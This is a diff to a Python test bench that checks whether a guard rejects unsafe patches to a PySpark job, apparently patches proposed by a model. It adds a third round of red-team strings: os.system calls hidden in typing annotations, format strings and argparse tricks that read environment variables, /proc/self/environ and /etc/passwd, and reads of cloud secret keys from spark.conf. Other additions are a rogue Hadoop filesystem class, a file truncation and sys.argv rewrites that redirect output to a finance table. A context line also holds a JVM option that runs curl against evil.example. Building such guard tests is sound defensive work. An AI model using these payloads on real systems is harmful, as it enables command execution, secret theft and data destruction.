@@ -186,6 +186,35 @@ RED_TEAM = {  # a second hostile tester, against the allowlist itself
     'k2-f-call-udf-java-method': "daily.select(F.call_udf('java_method', F.lit('java.lang.Thread'), F.lit('sleep'), F.lit(1))).show()",
 }
 
+RED_TEAM_2 = {  # a third round, after the fixes of the second
+    'r1-typing-get-type-hints-evals-a-string-annotation-rc': 'import typing\ndef f(x: "os.system(\'id\')"): pass\ntyping.get_type_hints(f)',
+    'r2-typing-get-type-hints-on-a-class-annotation': 'import typing\nclass A:\n    x: "__import__(\'os\').system(\'id\')"\ntyping.get_type_hints(A)',
+    'r3-typing-hint-returns-os-system-as-a-value': "import typing\ndef f(x: 'os.system'): pass\ntyping.get_type_hints(f)['x']('id')",
+    's1-logging-style-format-reads-f-globals-os-environ': "import logging\ndef f(): pass\ndef warning(): pass\nlogging.basicConfig(format='{msg.__globals__[os].environ}', style='{')\nlogging.getLogger().warning(f)",
+    's2-str-format-template-reached-through-a-write-attrib': "import argparse\ndef f(): pass\nprint(argparse.Namespace(write='{0.__globals__[os].environ}').write.format(f))",
+    's3-argparse-fromfile-prefix-chars-reads-proc-self-env': "import argparse\ndef parse_known_args(): pass\nprint(argparse.ArgumentParser(fromfile_prefix_chars='@').parse_known_args(['@/proc/self/environ']))",
+    's4-argparse-reads-a-host-file-via-os-path-join': "import argparse\ndef parse_known_args(): pass\nprint(argparse.ArgumentParser(fromfile_prefix_chars='@').parse_known_args(['@' + os.path.join('/app/mount', '..', '..', 'etc', 'passwd')]))",
+    's5-sparkcontext-via-tojson-context-wholetextfiles-on': "def context(): pass\ndef wholeTextFiles(): pass\nprint(daily.toJSON().context.wholeTextFiles(''.join(reversed('cte/:elif'))).collect())",
+    'c1-spark-conf-through-a-name-c-get-secret-key': "c = spark.conf\nprint(c.get('spark.hadoop.fs.s3a.secret.key'))",
+    'c2-spark-conf-get-taken-as-a-value': "g = spark.conf.get\nprint(g('spark.hadoop.fs.s3a.secret.key'))",
+    'c3-secret-key-name-not-matched-by-secret-key-azure-ac': "print(spark.conf.get('spark.hadoop.fs.azure.account.key.acct.dfs.core.windows.net'))",
+    'c4-sparkconf-via-tojson-context-getconf': "def context(): pass\ndef getConf(): pass\nprint(daily.toJSON().context.getConf().get('spark.hadoop.fs.s3a.secret.key'))",
+    'k1-conf-set-taken-as-a-value-sets-a-hadoop-key': "c = spark.conf\ns = c.set\ns('fs.s3a.impl', 'com.evil.FS')",
+    'w1-logging-basicconfig-filename-filemode-w-truncates': "import logging\nlogging.basicConfig(filename='app.py', filemode='w')",
+}
+# Whole-file patches: sys.argv changed before the original reads its table names from it.
+REBOUND_ARGV = {
+    "argv-item-store": ORIGINAL.replace("source_table, output_table = sys.argv[1], sys.argv[2]\n",
+                                        "sys.argv[2] = 'finance.ledger'\nsource_table, output_table = sys.argv[1], "
+                                        "sys.argv[2]\n"),
+    "argv-slice-swap": ORIGINAL.replace("source_table, output_table = sys.argv[1], sys.argv[2]\n",
+                                        "sys.argv[1:3] = sys.argv[2:0:-1]\nsource_table, output_table = "
+                                        "sys.argv[1], sys.argv[2]\n"),
+    "argv-method": ORIGINAL.replace("source_table, output_table = sys.argv[1], sys.argv[2]\n",
+                                    "sys.argv.insert(2, 'finance.ledger')\nsource_table, output_table = "
+                                    "sys.argv[1], sys.argv[2]\n"),
+}
+
 UNSAFE_CONFIG = {
     "default-java-options": {"spark.driver.defaultJavaOptions": "-XX:OnOutOfMemoryError=curl evil.example"},
     "query-listeners": {"spark.sql.queryExecutionListeners": "com.evil.Listener"},
@@ -199,7 +228,8 @@ UNSAFE_CONFIG = {
     "ansi-off-by-model": {"spark.sql.ansi.enabled": "false"},
 }
 FAMILIES = {"os access": OS_ACCESS, "spark commands and host files": SPARK_COMMANDS,
-            "table destruction": DESTRUCTION, "red team against the allowlist": RED_TEAM}
+            "table destruction": DESTRUCTION, "red team against the allowlist": RED_TEAM,
+            "red team, third round": RED_TEAM_2}
 
 ORDINARY_EDITS = {
     "new-column": 'daily = daily.withColumn("revenue_k", F.round(F.col("revenue") / 1000, 2))',
@@ -279,6 +309,13 @@ def run_guard_bench() -> GuardBench:
             else:
                 rejected += 1
         bench.rows.append((f"unsafe code: {family} (rejected)", len(cases), rejected))
+    rejected = 0
+    for name, code in sorted(REBOUND_ARGV.items()):
+        if _timed(ORIGINAL, Patch(kind="code", code=code), bench):
+            bench.passed_unsafe.append(f"rebound argv: {name}")
+        else:
+            rejected += 1
+    bench.rows.append(("unsafe code: sys.argv rebound before use (rejected)", len(REBOUND_ARGV), rejected))
     rejected = 0
     for name, conf in sorted(UNSAFE_CONFIG.items()):
         if _timed(ORIGINAL, Patch(kind="config", conf_changes=conf), bench):
